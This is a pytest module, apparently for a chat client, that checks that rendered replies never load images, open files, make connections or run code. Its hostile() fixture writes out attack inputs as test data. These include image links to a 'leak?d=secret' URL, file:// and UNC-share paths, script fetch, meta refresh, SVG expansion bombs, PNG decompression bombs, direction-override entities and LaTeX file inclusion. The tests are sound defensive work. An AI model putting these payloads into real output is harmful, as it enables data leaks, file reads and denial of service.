"""Nothing a reply names is opened, fetched or run (cases 1–4, 12, 13, 18)."""

import base64
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.faults.cases import case
from tests.faults.scene import Looks, Scene, can_watch

CANARY = "canary-picture.png"
LAUGHS = "".join(f'<g id="g{n}">' + f'<use xlink:href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    f'<defs><rect id="g0" width="1" height="1"/>{LAUGHS}</defs><use xlink:href="#g11"/><image xlink:href="CANARY"/></svg>'
)


def png(side: int) -> bytes:
    """A picture of ``side`` × ``side`` pixels in a few kB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = bytes(side // 8 + 2)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def address(kind: str, data: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def hostile(canary: Path, port: int) -> dict[str, str]:
    at = f"http://127.0.0.1:{port}/leak?d=secret"
    return {
        "server": f"![x]({at}) ![x][r] <img src={at}> <picture><source srcset={at}></picture> [![x]({at})](http://a.b)\n\n"
        f"| ![x]({at}) | b |\n|---|---|\n| <img src='{at}'> | ![x]({at}) |\n\n- ![x]({at})\n\n> ![x][r]\n\n# ![x]({at})\n\n[r]: {at}\n",
        "disk": f"![x](file://{canary}) ![x]({canary}) ![x](file://localhost{canary}) ![x](%2e%2e/{CANARY}) ![x]({CANARY})\n\n"
        f"<img src='{canary}'> <img src='file://{canary}'> [![x]({canary})]({canary})\n\n- ![x](<{canary}>)\n",
        "share": f"![x](//127.0.0.1/s/{CANARY}) ![x](\\\\host\\s\\{CANARY}) ![x](file://host/s/{CANARY})\n",
        "html": f"<body background='{canary}'><table background='{canary}'><tr><td style='background-image:url({canary})'>x</td>"
        f"</tr></table>\n\n<link rel=stylesheet href='{at}'><iframe src='{at}'></iframe><script>fetch('{at}')</script>"
        f"<object data='{canary}'></object><meta http-equiv=refresh content='0;url={at}'>\n\n<style>@import '{at}'</style>\n",
        "svg": f"![x]({address('image/svg+xml', SVG.replace('CANARY', str(canary)).encode())}) and ```svg\n{SVG}\n```\n",
        "bomb": f"![x]({address('image/png', png(30_000))}) ![x]({address('image/png', png(8_000))})\n",
        "entities": "a &#0; b &#x202e;c <!-- hidden words --> d &lt;b&gt;\n",
        "formula": rf"$\includegraphics{{{canary}}}$ $\input{{{canary}}}$ $\href{{{at}}}{{x}}$ $$\text{{<img src='{canary}'/>}}$$" + "\n",
    }    # fmt: skip


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    if not can_watch():
        pytest.skip("strace is not installed")
    folder = tmp_path_factory.mktemp("loading")
    (folder / CANARY).write_bytes(png(8))
    with Scene(folder / "home", folder / "opened.log") as made:
        yield made


@pytest.fixture(scope="module")
def looks(scene: Scene, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Looks]:
    """Every hostile text, streamed and after a restart."""
    assert scene.log is not None
    return scene.look_at(hostile(scene.log.parent / CANARY, 9))    # nobody listens there: a connection would be noted


@case(1, 2, 3, 4, 12)
def test_no_file_is_opened_and_no_connection_made(scene: Scene, looks: dict[str, Looks]) -> None:
    assert all(look.all for look in looks.values())
    opened = scene.opened()

    assert "tests.faults.window" in opened, "nobody watched"
    assert CANARY not in opened
    assert "//127.0.0.1" not in opened
    assert scene.connections() == {scene.server.port}


@case(1, 2, 3, 4, 12)
def test_nothing_is_run(scene: Scene, looks: dict[str, Looks]) -> None:
    noted = [line for look in looks.values() for seen in look.all for line in seen.noted]

    foreign = [
        line
        for line in noted
        if f"('127.0.0.1', {scene.server.port})" not in line and "deskchat.services.formulas" not in line
    ]
    assert noted, "nobody noted anything"
    assert foreign == []


@case(1, 2, 3)
@pytest.mark.parametrize("name", ["server", "disk", "share"])
def test_a_picture_is_named_in_its_place(looks: dict[str, Looks], name: str) -> None:
    for seen in looks[name].all:
        assert "image not loaded" in seen.shown


@case(4, 18)
@pytest.mark.parametrize(("name", "words"), [("html", "<script>fetch("), ("entities", "<!-- hidden words -->")])
def test_tags_and_comments_are_text(looks: dict[str, Looks], name: str, words: str) -> None:
    for seen in looks[name].all:
        assert words in seen.shown
        assert words in seen.copied


@case(18)
def test_an_entity_turns_nothing_around(looks: dict[str, Looks]) -> None:
    for seen in looks["entities"].all:
        assert "\u202e" not in seen.shown
        assert "\0" not in seen.shown


@case(12, 13)
@pytest.mark.parametrize("name", ["svg", "bomb"])
def test_a_picture_in_the_text_is_not_decoded(looks: dict[str, Looks], name: str) -> None:
    for seen in looks[name].all:
        assert "image not loaded" in seen.shown or seen.shown.startswith("![x](data:"), "it is named, or left as it was written"
        assert seen.grown_mb < 50
        assert seen.cpu_ms < 2_000
